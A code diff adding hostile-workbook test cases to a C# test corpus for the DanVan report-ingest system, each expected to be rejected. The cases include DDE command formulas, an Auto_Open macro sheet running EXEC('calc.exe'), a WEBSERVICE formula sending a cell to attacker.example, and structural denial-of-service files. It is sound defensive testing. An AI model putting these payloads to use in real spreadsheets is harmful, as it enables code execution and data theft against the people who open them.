@@ -1,6 +1,7 @@
 using System.IO.Compression;
 using System.Text;
 using ClosedXML.Excel;
+using DanVan.Core.Calendar;
 using DanVan.Core.Ingest;
 
 namespace DanVan.Core.Tests.Corpus;
@@ -46,6 +47,107 @@ public static class HostileFiles
         yield return new("another unit's template", () => Filler.Fill(World.Template(World.CamThanh), World.FullValues()), ProblemCodes.UnitMismatch);
         yield return new("another period's template", () => Filler.Fill(World.Template(period: World.Q3), World.FullValues()), ProblemCodes.PeriodMismatch);
         yield return new("row of an indicator deleted (#REF!)", () => ValidRaw(r => r.Name("DV_LD_VANBAN", "BaoCao", "#REF!")).Build(), ProblemCodes.MissingCell);
+        foreach (var c in Structural())
+        {
+            yield return c;
+        }
+    }
+
+    /// <summary>The hostile workbooks of issue 10: each brought a running DanVan down, or past its rules, before the package inspection.</summary>
+    public static IEnumerable<CorpusCase> Structural()
+    {
+        yield return new("100,000 nested elements in a sheet's extLst", DeepExtLst, ProblemCodes.HostileStructure);
+        yield return new("30,000 cell formats in styles.xml", ManyStyles, ProblemCodes.HostileStructure);
+        yield return new("200,000 defined names", () => ManyNames(200_000), ProblemCodes.HostileStructure);
+        yield return new("5,000 hidden sheets", ManySheets, ProblemCodes.HostileStructure);
+        yield return new("XLM macro sheet with Auto_Open", MacroSheet, ProblemCodes.MacroEnabled);
+        yield return new("external link part", () => ValidRaw().Part("xl/externalLinks/externalLink1.xml", Utf8(
+            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><externalBook><sheetNames><sheetName val=\"A\"/></sheetNames></externalBook></externalLink>")).Build(), ProblemCodes.ActiveContent);
+        yield return new("DDE link", () => ValidRaw().Part("xl/externalLinks/externalLink1.xml", Utf8(
+            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")).Build(), ProblemCodes.ActiveContent);
+        yield return new("DDE formula outside the input cells", () => ValidRaw().Sheet("Khac").Row(1, RawXlsx.Formula("A1", "cmd|' /C calc'!A0", "0")).Build(), ProblemCodes.ActiveContent);
+        yield return new("WEBSERVICE formula outside the input cells", () => ValidRaw().Sheet("Khac").Row(1, RawXlsx.Formula("A1", "_xlfn.WEBSERVICE(\"http://attacker.example/?\"&B1)", "0")).Build(), ProblemCodes.ActiveContent);
+        yield return new("HYPERLINK formula outside the input cells", () => ValidRaw().Sheet("Khac").Row(1, RawXlsx.Formula("A1", "HYPERLINK(\"http://attacker.example\",\"bấm vào đây\")", "0")).Build(), ProblemCodes.ActiveContent);
+        yield return new("OLE object part", () => ValidRaw().Part("xl/embeddings/oleObject1.bin", [0xD0, 0xCF, 0x11, 0xE0]).Build(), ProblemCodes.ActiveContent);
+        yield return new("ActiveX control part", () => ValidRaw().Part("xl/activeX/activeX1.xml", Utf8("<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>")).Build(), ProblemCodes.ActiveContent);
+        yield return new("dialog sheet", () => ValidRaw().Part("xl/dialogsheets/sheet1.xml", Utf8("<dialogsheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>")).Build(), ProblemCodes.ActiveContent);
+        yield return new("1 MB string as the template id", () => Raw(id: new string('X', 1024 * 1024)).Build(), ProblemCodes.HostileStructure);
+        yield return new("30,000-character template id", () => Raw(id: new string('X', 30_000)).Build(), ProblemCodes.UnknownTemplate);
+        yield return new("report for 2031-Q2", () => Filler.Fill(World.Template(period: PeriodKey.ForQuarter(2031, 2)), World.FullValues()), ProblemCodes.PeriodNotStarted);
+        yield return new("report for 2100-Q1", () => Filler.Fill(World.Template(period: PeriodKey.ForQuarter(2100, 1)), World.FullValues()), ProblemCodes.PeriodNotStarted);
+    }
+
+    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);
+
+    /// <summary>Replaces one part's text (the package otherwise as it was).</summary>
+    public static byte[] Rewrite(byte[] xlsx, string part, Func<string, string> change)
+    {
+        using var ms = new MemoryStream();
+        ms.Write(xlsx);
+        using (var zip = new ZipArchive(ms, ZipArchiveMode.Update, leaveOpen: true))
+        {
+            var entry = zip.GetEntry(part)!;
+            string text;
+            using (var r = new StreamReader(entry.Open()))
+            {
+                text = r.ReadToEnd();
+            }
+            entry.Delete();
+            using var w = new StreamWriter(zip.CreateEntry(part, CompressionLevel.Optimal).Open());
+            w.Write(change(text));
+        }
+        return ms.ToArray();
+    }
+
+    private static byte[] DeepExtLst()
+    {
+        const int depth = 100_000;
+        var nested = new StringBuilder("<extLst><ext uri=\"{78C0D931-6437-407d-A8EE-F0AAD7539E65}\">");
+        for (var i = 0; i < depth; i++)
+        {
+            nested.Append("<x>");
+        }
+        for (var i = 0; i < depth; i++)
+        {
+            nested.Append("</x>");
+        }
+        nested.Append("</ext></extLst>");
+        return Rewrite(ValidRaw().Build(), "xl/worksheets/sheet1.xml", t => t.Replace("</sheetData>", "</sheetData>" + nested, StringComparison.Ordinal));
+    }
+
+    private static byte[] ManyStyles()
+    {
+        var xfs = string.Concat(Enumerable.Repeat("<xf numFmtId=\"0\" fontId=\"0\" fillId=\"0\" borderId=\"0\"/>", 30_000));
+        return ValidRaw().Part("xl/styles.xml", Utf8(
+            "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><fonts count=\"1\"><font/></fonts><fills count=\"1\"><fill/></fills><borders count=\"1\"><border/></borders>" +
+            $"<cellXfs count=\"30000\">{xfs}</cellXfs></styleSheet>")).Build();
+    }
+
+    private static byte[] ManyNames(int count)
+    {
+        var names = new StringBuilder();
+        for (var i = 0; i < count; i++)
+        {
+            names.Append("<definedName name=\"N").Append(i).Append("\">BaoCao!$A$1</definedName>");
+        }
+        return Rewrite(ValidRaw().Build(), "xl/workbook.xml", t => t.Replace("</definedNames>", names + "</definedNames>", StringComparison.Ordinal));
+    }
+
+    private static byte[] ManySheets()
+    {
+        var raw = ValidRaw();
+        for (var i = 0; i < 5_000; i++)
+        {
+            raw.Sheet("H" + i, "hidden");
+        }
+        return raw.Build();
+    }
+
+    private static byte[] MacroSheet()
+    {
+        var raw = ValidRaw(r => r.Name("Auto_Open", "BaoCao", "$A$1"))
+            .Part("xl/macrosheets/sheet1.xml", Utf8("<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row><row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>"));
+        return raw.Build();
     }
 
     /// <summary>A raw (non-ClosedXML) report with identity, every input named and filled validly.</summary>
